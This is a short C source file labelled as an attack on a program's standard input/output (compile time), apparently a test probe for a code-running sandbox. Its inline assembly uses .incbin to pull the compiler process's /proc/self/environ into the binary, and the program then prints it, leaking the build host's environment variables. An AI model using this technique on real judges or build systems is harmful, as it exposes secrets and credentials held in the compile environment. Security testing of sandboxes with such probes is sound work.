// Attack on stdin_stdout (compile time): embeds what the compiler can read of /proc.
#include <stdio.h>
__asm__(".section .rodata\nblob: .incbin \"/proc/self/environ\"\n.byte 0\n.text");
extern const char blob[];
int main(void) { puts(blob); return 0; }
